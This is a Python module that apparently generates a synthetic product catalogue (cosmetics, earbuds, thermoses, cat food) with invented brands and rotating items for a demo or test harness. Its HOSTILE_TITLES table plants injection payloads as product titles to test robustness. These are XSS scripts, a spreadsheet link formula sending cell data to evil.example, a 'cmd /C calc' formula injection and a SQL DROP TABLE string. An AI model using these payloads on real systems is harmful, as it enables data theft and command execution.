"""What is on sale: categories, invented brands with the spellings pages use, and the items that fill the slots.

A category has ``SLOTS`` places of supply. Slots below ``PERMANENT`` hold one item for ever; the others hold a new item
(a new id) every 50 to 90 days, so items enter and leave.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import lru_cache
from random import Random
from typing import Literal

from demo.brands import CANONICAL, brands_of

SLOTS = 118
PERMANENT = 60
SalesStyle = Literal["bucket", "rounded", "exact", "bought", "cumulative"]


@dataclass(frozen=True, slots=True)
class CategoryFacts:
    """One category. ``top_daily``: units a day of the best slot; prices in units of ``currency``."""

    id: str
    code: int
    title: str
    english: bool
    currency: str
    symbol: str
    style: SalesStyle
    top_daily: float
    price_low: float
    price_high: float
    nouns: tuple[str, ...]


CATEGORIES = (
    CategoryFacts("serum", 61, "精华 Serum", False, "CNY", "¥", "bucket", 4200, 39, 520,
                  ("烟酰胺精华液", "玻尿酸补水精华", "视黄醇抗皱精华", "维C提亮精华", "修护精华乳")),
    CategoryFacts("sunscreen", 62, "防晒 Sunscreen", False, "CNY", "¥", "rounded", 2600, 29, 320,
                  ("防晒霜 SPF50+", "清爽防晒乳", "防晒喷雾", "隔离防晒二合一", "儿童防晒霜")),
    CategoryFacts("lipstick", 63, "口红 Lipstick", False, "CNY", "¥", "exact", 900, 19, 360,
                  ("丝绒哑光口红", "水光唇釉", "保湿润唇膏", "持久不沾杯唇泥", "镜面唇油")),
    CategoryFacts("earbuds", 64, "Earbuds 耳机", True, "USD", "US $", "bought", 700, 9, 260,
                  ("Wireless Earbuds", "Noise Cancelling Earbuds", "Sport Earbuds IPX7", "Open-Ear Headphones",
                   "USB-C Wired Earphones")),
    CategoryFacts("thermos", 65, "保温杯 Thermos", False, "CNY", "¥", "cumulative", 420, 25, 420,
                  ("316不锈钢保温杯", "大容量保温壶", "儿童吸管保温杯", "智能测温水杯", "车载保温杯")),
    CategoryFacts("catfood", 66, "猫粮 Cat food", False, "CNY", "¥", "bucket", 2300, 35, 480,
                  ("全价成猫粮", "冻干生骨肉猫粮", "幼猫奶糕粮", "无谷鸡肉猫粮", "低敏鹿肉猫粮")),
)  # fmt: skip
BY_ID = {category.id: category for category in CATEGORIES}

HOSTILE_TITLES = {
    21: '<script>alert("shelf")</script> {noun}',
    24: '=HYPERLINK("http://evil.example/?x="&A1,"{noun}")',
    28: "\"><img src=x onerror=alert(1)> {noun} O'Brien & Söhne",
    31: "😀🧴✨ {noun} 👩‍🔬 100% ",
    35: "مرطب البشرة {noun} \u202eadvanced\u202c",
    38: "+1-2@SUM(1+1)*cmd|' /C calc'!A0 {noun}",
    41: "{{{{ 7*7 }}}} ${{7*7}} '; DROP TABLE listing; -- {noun}",
}
FAMILIES = {6: (6, 26, 46), 9: (9, 29), 13: (13, 33, 43, 53), 17: (17, 37), 22: (22, 52)}
"""Variant families by the slot of their parent: every member's page shows the parent's total."""
FAMILY_OF = {slot: parent for parent, members in FAMILIES.items() for slot in members}
FLAGSHIPS = {  # slot -> brand number and, where the story needs it, units a day
    "serum": {2: (0, 360.0), 5: (2, 380.0)},
    "sunscreen": {3: (0, 300.0), 5: (2, 320.0)},
    "lipstick": {1: (0, 610.0), 4: (2, 350.0)},
    "earbuds": {1: (0, 240.0), 4: (2, 170.0)},
    "thermos": {2: (0, 120.0), 5: (2, 105.0)},
    "catfood": {4: (0, 520.0), 5: (2, 300.0)},
}


@dataclass(frozen=True, slots=True)
class Item:
    """One item for sale, without what changes from day to day."""

    item_id: str
    slot: int
    born: int
    family_id: str | None
    title: str
    brand_no: int
    brand: str | None
    brand_text: str | None
    shop: str
    daily: float
    price: float
    spread: float
    coupon: bool
    struck: bool
    silent: bool
    rating: float | None
    reviews: int


def item_at(category: str, slot: int, ordinal: int) -> Item:
    """The item in a slot on the day of that ordinal."""
    if slot < PERMANENT:
        return _item(category, slot, 0, 0)
    life = 50 + (slot * 7) % 41
    generation, age = divmod(ordinal + slot * 13, life)
    return _item(category, slot, generation, ordinal - age)


@lru_cache(maxsize=20_000)
def _item(category: str, slot: int, generation: int, born: int) -> Item:
    facts = BY_ID[category]
    rng = Random(f"item/{category}/{slot}/{generation}")
    parent = FAMILY_OF.get(slot)
    brand_no, daily = _brand_and_sales(facts, slot, parent, rng)
    spellings = brands_of(category)[brand_no]
    unbranded = parent is None and slot not in FLAGSHIPS[category] and rng.random() < 0.07
    text = spellings[int(rng.random() ** 2 * len(spellings))]
    hidden = slot not in FLAGSHIPS[category] and rng.random() < 0.05
    price = facts.price_low * (facts.price_high / facts.price_low) ** ((rng.random() + rng.random()) / 2)
    flagship = slot in FLAGSHIPS[category]
    return Item(
        item_id=f"{facts.code}{slot:03d}{generation % 100_000:05d}",
        slot=slot,
        born=born,
        family_id=f"{facts.code}9{parent:03d}" if parent is not None else None,
        title=_title(facts, slot, "" if unbranded else spellings[0], rng),
        brand_no=brand_no,
        brand=None if unbranded else CANONICAL.get(spellings[0], spellings[0]),
        brand_text=None if unbranded or hidden else text,
        shop=_shop(facts, spellings[0], rng),
        daily=daily,
        price=price,
        spread=1.5 if not flagship and rng.random() < 0.12 else 1.0,
        coupon=rng.random() < 0.1,
        struck=rng.random() < 0.3,
        silent=not flagship and rng.random() < 0.03,
        rating=round(3.8 + 1.2 * rng.random(), 1) if rng.random() < 0.92 else None,
        reviews=int(40 * daily**0.8 * (0.5 + rng.random())),
    )


def _brand_and_sales(facts: CategoryFacts, slot: int, parent: int | None, rng: Random) -> tuple[int, float]:
    """Brand number and units a day; members of a family share the brand of their parent."""
    daily = facts.top_daily * ((slot % PERMANENT + 2) / 2) ** -1.4 * (0.8 + 0.4 * rng.random())
    if slot in FLAGSHIPS[facts.id]:
        return FLAGSHIPS[facts.id][slot]
    chooser = rng if parent is None else Random(f"family/{facts.id}/{parent}")
    return int(chooser.random() ** 1.7 * len(brands_of(facts.id))), daily


def _title(facts: CategoryFacts, slot: int, brand: str, rng: Random) -> str:
    noun = facts.nouns[int(rng.random() * len(facts.nouns))]
    if slot in HOSTILE_TITLES:
        return HOSTILE_TITLES[slot].format(noun=noun).strip()
    words: tuple[str, ...]
    if facts.english:
        words = ("Bluetooth 5.4", "2026 New", "for Running", "with Mic", "40H Playtime", "Hi-Res", "Deep Bass")
    else:
        words = ("官方旗舰", "2026新款", "学生党平价", "大牌同款", "买一送一", "孕妇可用", "正品保证", "Pro Max")
    extras = sorted(words, key=lambda _: rng.random())[:2]
    return " ".join(part for part in (brand, noun, *extras, f"No{100 + int(rng.random() * 900)}") if part)


def _shop(facts: CategoryFacts, brand: str, rng: Random) -> str:
    if facts.english:
        return f"{brand} Official Store" if rng.random() < 0.6 else f"Gadget Harbour {int(rng.random() * 30)}"
    return f"{brand}官方旗舰店" if rng.random() < 0.6 else f"优选好物{int(rng.random() * 30)}号店"
